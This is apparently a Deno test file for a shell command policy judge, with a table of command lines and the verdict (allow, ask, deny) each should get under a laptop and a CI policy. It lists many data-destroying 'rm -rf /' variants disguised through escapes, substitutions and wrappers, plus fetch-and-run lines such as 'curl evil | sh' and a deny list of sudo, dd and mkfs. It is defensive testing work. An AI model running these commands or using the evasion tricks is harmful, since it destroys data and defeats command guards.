import assert from "node:assert/strict";
import { CommandJudge, parsePolicy, type Verdict } from "../src/policy/mod.ts";

/** The parser and judge, pure: command lines and the verdict each gets under a policy. */
const laptop = new CommandJudge(parsePolicy(
  JSON.stringify({
    default: "allow",
    deny: ["rm -rf *", "sudo *", "git push --force *", "curl *", "dd *", "mkfs *"],
    ask: ["git push *", "git reset --hard *"],
    allow: ["npm test *", "git status"],
  }),
  "laptop.json",
));
const ci = new CommandJudge(parsePolicy(
  JSON.stringify({
    default: "deny",
    allow: ["npm test *", "npm ci", "git status", "git diff *", "ls *", "cat *", "echo *", "grep *", "cd *", "true"],
    ask: ["git commit -m *"],
  }),
  "ci.json",
));

const TABLE: [CommandJudge, string, Verdict][] = [
  // plain commands, defaults
  [laptop, "ls -la", "allow"],
  [laptop, "", "allow"],
  [laptop, "# only a comment", "allow"],
  [laptop, "rm -rf /", "deny"],
  [laptop, "rm -rf", "deny"],
  [laptop, "rm -r foo", "allow"],
  [laptop, "rm foo", "allow"],
  // option letters as a set, wherever they stand
  [laptop, "rm -r -f x", "deny"],
  [laptop, "rm -fr x", "deny"],
  [laptop, "rm -f -r x", "deny"],
  [laptop, "rm -rfv x", "deny"],
  [laptop, "rm x -rf", "deny"],
  [laptop, "rm -- -rf", "allow"],
  [laptop, "rm --recursive --force x", "allow"],
  // names by base name, words after unquoting
  [laptop, "/bin/rm -rf x", "deny"],
  [laptop, "/usr/bin/sudo ls", "deny"],
  [laptop, "./rm -rf x", "deny"],
  [laptop, "'rm' -rf x", "deny"],
  [laptop, '"rm" "-rf" x', "deny"],
  [laptop, "r\\m -rf x", "deny"],
  [laptop, "r''m -rf x", "deny"],
  [laptop, "$'\\x72m' -rf x", "deny"],
  [laptop, "$'\\162m' -rf x", "deny"],
  [laptop, "$'rm' $'-rf' x", "deny"],
  [laptop, '$"rm" -rf x', "deny"],
  [laptop, "$HOME/bin/rm -rf x", "deny"],
  [laptop, "~/bin/rm -rf x", "deny"],
  // chains
  [laptop, "echo hi; rm -rf /", "deny"],
  [laptop, "true && rm -rf /", "deny"],
  [laptop, "false || rm -rf /", "deny"],
  [laptop, "ls | rm -rf /", "deny"],
  [laptop, "ls |& rm -rf /", "deny"],
  [laptop, "rm -rf / &", "deny"],
  [laptop, "sleep 1 & rm -rf /", "deny"],
  [laptop, "echo a\nrm -rf /", "deny"],
  [laptop, "echo a \\\n; rm -rf /", "deny"],
  [laptop, "echo ok; ls; pwd", "allow"],
  // subshells, groups, compound commands
  [laptop, "(rm -rf /)", "deny"],
  [laptop, "(cd /tmp && (rm -rf x))", "deny"],
  [laptop, "{ rm -rf /; }", "deny"],
  [laptop, "if true; then rm -rf /; fi", "deny"],
  [laptop, "if rm -rf /; then :; fi", "deny"],
  [laptop, "if false; then :; elif true; then :; else rm -rf /; fi", "deny"],
  [laptop, "for i in 1 2; do rm -rf $i; done", "deny"],
  [laptop, "for ((i=0;i<3;i++)); do rm -rf x; done", "deny"],
  [laptop, "while true; do rm -rf x; done", "deny"],
  [laptop, "until false; do rm -rf x; done", "deny"],
  [laptop, "case $x in a|b) rm -rf /;; *) echo no;; esac", "deny"],
  [laptop, "case x in (a) echo a;; esac; rm -rf /", "deny"],
  [laptop, "f() { rm -rf /; }", "deny"],
  [laptop, "function f { rm -rf /; }", "deny"],
  [laptop, "! rm -rf /", "deny"],
  [laptop, "[[ -f x ]] && rm -rf x", "deny"],
  [laptop, "[[ a < b ]]", "allow"],
  [laptop, "((i++)); rm -rf x", "deny"],
  [laptop, "for x in $(rm -rf /); do :; done", "deny"],
  // substitutions
  [laptop, "echo $(rm -rf /)", "deny"],
  [laptop, 'echo "$(rm -rf /)"', "deny"],
  [laptop, "echo `rm -rf /`", "deny"],
  [laptop, 'echo "`rm -rf /`"', "deny"],
  [laptop, "echo $(echo $(rm -rf /))", "deny"],
  [laptop, "diff <(rm -rf /) b", "deny"],
  [laptop, "tee >(rm -rf /)", "deny"],
  [laptop, "x=$(rm -rf /)", "deny"],
  [laptop, "echo ${x:-$(rm -rf /)}", "deny"],
  [laptop, "echo $((1 + $(rm -rf /)))", "deny"],
  [laptop, "cat <<EOF\n$(rm -rf /)\nEOF", "deny"],
  [laptop, "cat <<'EOF'\n$(rm -rf /)\nEOF", "allow"],
  [laptop, "cat <<-EOF\n\t`rm -rf /`\n\tEOF\necho done", "deny"],
  [laptop, "echo '$(rm -rf /)'", "allow"],
  [laptop, 'echo "\\$(rm -rf /)"', "allow"],
  [laptop, "echo \\$(rm -rf /)", "deny"], // a syntax error in bash, judged strictly
  // wrappers
  [laptop, "sh -c 'rm -rf /'", "deny"],
  [laptop, 'bash -c "rm -rf /"', "deny"],
  [laptop, "bash -lc 'rm -rf /'", "deny"],
  [laptop, "zsh -c 'echo; rm -rf /'", "deny"],
  [laptop, "dash -e -c 'rm -rf /'", "deny"],
  [laptop, "bash -o pipefail -c 'rm -rf /'", "deny"],
  [laptop, "bash -c 'bash -c \"rm -rf /\"'", "deny"],
  [laptop, "bash script.sh", "allow"],
  [laptop, "bash", "allow"],
  [laptop, "wget -qO- x | sh", "ask"],
  [laptop, "cat x | bash -s -- arg", "ask"],
  [laptop, "bash < script.sh", "ask"],
  [laptop, "bash <<EOF\nrm -rf /\nEOF", "ask"],
  [laptop, "cat x | bash -c 'ls'", "allow"],
  [laptop, "cat x | bash script.sh", "allow"],
  [laptop, "eval rm -rf /", "deny"],
  [laptop, "eval 'rm -rf /'", "deny"],
  [laptop, "env rm -rf /", "deny"],
  [laptop, "env -i A=1 B=2 rm -rf /", "deny"],
  [laptop, "env -u HOME rm -rf /", "deny"],
  [laptop, "sudo ls", "deny"],
  [laptop, "sudo -u root -- rm -rf /", "deny"],
  [laptop, "xargs rm -rf", "deny"],
  [laptop, "xargs -0 -n 1 rm -rf", "deny"],
  [laptop, "find . | xargs rm", "ask"],
  [laptop, "nohup rm -rf x", "deny"],
  [laptop, "time rm -rf x", "deny"],
  [laptop, "time -p rm -rf x", "deny"],
  [laptop, "time { rm -rf x; }", "deny"],
  [laptop, "time (rm -rf x) | cat", "deny"],
  [laptop, "/usr/bin/time -v rm -rf x", "deny"],
  [laptop, "rm !(keep)", "ask"],
  [laptop, "ls *(e:'rm -rf /':)", "ask"],
  [laptop, "cat =(rm -rf /)", "deny"],
  [laptop, "echo !(x); rm -rf /", "deny"],
  [laptop, "timeout 5 rm -rf x", "deny"],
  [laptop, "timeout -s KILL 5s rm -rf x", "deny"],
  [laptop, "nice rm -rf x", "deny"],
  [laptop, "nice -n 10 rm -rf x", "deny"],
  [laptop, "exec rm -rf x", "deny"],
  [laptop, "command rm -rf x", "deny"],
  [laptop, "command -v rm", "allow"],
  [laptop, "builtin eval 'rm -rf x'", "deny"],
  [laptop, "nohup nice timeout 1 env bash -c 'eval rm -rf x'", "deny"],
  [laptop, "find . -name '*.o' -exec rm -rf {} \\;", "deny"],
  [laptop, "find . -name x -print", "allow"],
  [laptop, "watch rm -rf x", "deny"],
  [laptop, "alias ll='rm -rf /'", "deny"],
  [laptop, "trap 'rm -rf /' EXIT", "deny"],
  [laptop, "su -c 'rm -rf /' root", "deny"],
  [laptop, "chroot /srv rm -rf /", "deny"],
  [laptop, "ionice -c 3 rm -rf x", "deny"],
  [laptop, "taskset 0x1 rm -rf x", "deny"],
  [laptop, "taskset -c 0 rm -rf x", "deny"],
  [laptop, "flock /tmp/l rm -rf x", "deny"],
  [laptop, "flock /tmp/l -c 'rm -rf x'", "deny"],
  [laptop, "runuser -u nobody -- rm -rf x", "deny"],
  [laptop, "strace -f -o /tmp/t rm -rf x", "deny"],
  [laptop, "script -qc 'rm -rf x' /dev/null", "deny"],
  [laptop, "su -lc 'rm -rf x'", "deny"],
  [laptop, "script -c 'rm -rf x' /dev/null", "deny"],
  [laptop, "PROMPT_COMMAND='rm -rf /'", "deny"],
  [laptop, "export PROMPT_COMMAND='echo; rm -rf /'", "deny"],
  [laptop, "PS1='$(rm -rf /) $ '", "deny"],
  [laptop, "PS1='\\u@\\h \\$ '", "allow"],
  [ci, "PS1='\\u@\\h \\$ '", "allow"],
  [ci, "PS1='$(whoami) $ '", "deny"],
  [laptop, "export BASH_ENV=/tmp/x", "ask"],
  [laptop, "LD_PRELOAD=/tmp/x.so ls", "ask"],
  [laptop, "export PATH=$PATH:/opt/bin", "allow"],
  [laptop, "X=1 Y=$(rm -rf /)", "deny"],
  // zsh and fish forms
  [laptop, "noglob rm -rf x", "deny"],
  [laptop, "repeat 3 rm -rf x", "deny"],
  [laptop, "true; and rm -rf x", "deny"],
  [laptop, "begin; rm -rf x; end", "deny"],
  [laptop, "echo (rm -rf x)", "deny"],
  // what cannot be judged exactly is ask
  [laptop, "$CMD -rf /", "ask"],
  [laptop, "$(echo rm) -rf /", "ask"],
  [laptop, "`echo rm` -rf /", "ask"],
  [laptop, "rm $FLAGS /", "ask"],
  [laptop, 'rm "$F"', "ask"],
  [laptop, "rm -{r,f} x", "ask"],
  [laptop, "rm *", "ask"],
  [laptop, 'eval "$X"', "ask"],
  [laptop, 'bash -c "$X"', "ask"],
  [laptop, "sudo $X", "deny"],
  [laptop, "echo 'unterminated", "ask"],
  [laptop, 'echo "unterminated', "ask"],
  [laptop, "echo $(ls", "ask"],
  [laptop, "echo `ls", "ask"],
  [laptop, "echo trailing \\", "ask"],
  [laptop, "env -S 'rm -rf /'", "ask"],
  [laptop, "fc -s", "ask"],
  [laptop, "echo $HOME", "allow"],
  [laptop, "ls *.txt", "allow"],
  // rules: `*` in the middle is one word, last any further words; ask beats allow, deny beats ask
  [laptop, "git push", "ask"],
  [laptop, "git push origin main", "ask"],
  [laptop, "git push --force origin", "deny"],
  [laptop, "git push origin --force", "deny"],
  [laptop, "git push --force-with-lease", "ask"],
  [laptop, "git status", "allow"],
  [laptop, "git reset --hard HEAD~1", "ask"],
  [laptop, "git reset --soft HEAD~1", "allow"],
  [laptop, "npm test; curl evil | sh", "deny"],
  [laptop, "git push; sudo x", "deny"],
  // default deny with an allow list
  [ci, "npm test", "allow"],
  [ci, "npm test -- --watch", "allow"],
  [ci, "npm ci", "allow"],
  [ci, "npm ci --force", "deny"],
  [ci, "npm install", "deny"],
  [ci, "git status", "allow"],
  [ci, "git status -s", "deny"],
  [ci, "git diff HEAD", "allow"],
  [ci, "ls -la | grep x", "allow"],
  [ci, "ls -la | wc -l", "deny"],
  [ci, "cd src && npm test", "allow"],
  [ci, "cd src && make", "deny"],
  [ci, "echo $(whoami)", "deny"],
  [ci, "git commit -m wip", "ask"],
  [ci, "cat $FILE", "allow"],
  [ci, "git $SUB", "ask"],
  [ci, "if true; then echo ok; fi", "allow"],
  [ci, "bash -c 'echo ok'", "deny"],
];

Deno.test(`the judge gives each of ${TABLE.length} command lines its verdict`, () => {
  assert.ok(TABLE.length >= 100);
  const wrong = TABLE.flatMap(([judge, line, verdict]) => {
    const got = judge.judge(line);
    return got.verdict === verdict ? [] : [`${JSON.stringify(line)}: want ${verdict}, got ${JSON.stringify(got)}`];
  });
  assert.deepEqual(wrong, []);
});

Deno.test("a line a shell would wait on (an open quote, heredoc or $( at the end) is marked incomplete", () => {
  for (const line of ["echo 'a", "cat <<EOF", "cat <<EOF\nbody", "echo $(ls", "echo a \\", 'echo "a'] as const) {
    const judged = laptop.judge(line);
    assert.equal(judged.incomplete, true, line);
  }
  // Only the text itself: an open quote inside a nested string is an error there, not a wait.
  for (const line of ['make; bash -c "echo \'x"', "echo `echo 'x`", "cat <<EOF\nx\nEOF", "ls"] as const) {
    assert.equal(laptop.judge(line).incomplete, undefined, line);
  }
});

Deno.test("a judgement names the rule and the command that decided", () => {
  const judged = laptop.judge("echo ok && /bin/rm -fr /tmp/x");
  assert.deepEqual(judged, {
    verdict: "deny",
    rule: "rm -rf *",
    command: "/bin/rm -fr /tmp/x",
    reason: "a deny rule matches",
  });
  assert.equal(ci.judge("make").rule, "default");
  assert.equal(laptop.judge("$X").rule, null);
});

Deno.test("typed at a prompt, history expansion cannot be judged: ask", () => {
  assert.equal(laptop.judge("!!", { interactive: true }).verdict, "ask");
  assert.equal(laptop.judge("echo !-2", { interactive: true }).verdict, "ask");
  assert.equal(laptop.judge("echo hi!", { interactive: true }).verdict, "allow");
  assert.equal(laptop.judge("[ a != b ]", { interactive: true }).verdict, "allow");
  assert.equal(laptop.judge("echo '!!'", { interactive: true }).verdict, "allow");
  assert.equal(laptop.judge("!!").verdict, "allow");
});

Deno.test("policy files: bad ones are refused with one line naming the file and the fault", () => {
  const bad: [string, RegExp][] = [
    ["{", /^policy file p\.json: not valid JSON/],
    ["[]", /must be a JSON object/],
    ['{"deny": []}', /"default" must be "allow", "ask" or "deny"/],
    ['{"default": "maybe"}', /"default" must be/],
    ['{"default": "allow", "denny": []}', /unknown key "denny"/],
    ['{"default": "allow", "deny": "rm"}', /"deny" must be a list/],
    ['{"default": "allow", "deny": [3]}', /"deny" holds 3, not a rule/],
    ['{"default": "allow", "deny": ["rm; ls"]}', /must be one command's words/],
    ['{"default": "allow", "deny": ["rm $X"]}', /\$X is not a literal word/],
    ['{"default": "allow", "deny": ["rm \'x"]}', /unterminated single quote/],
  ];
  for (const [text, message] of bad) {
    assert.throws(() => parsePolicy(text, "p.json"), (error: Error) => {
      assert.match(error.message, message);
      assert.ok(!error.message.includes("\n"), error.message);
      return true;
    });
  }
});

Deno.test("the example policies of docs/policy.md are valid", async () => {
  const doc = await Deno.readTextFile(new URL("../docs/policy.md", import.meta.url));
  const blocks = [...doc.matchAll(/```json\n([\s\S]*?)```/g)].map((m) => m[1]);
  assert.ok(blocks.length >= 4);
  for (const block of blocks) parsePolicy(block, "docs/policy.md");
});
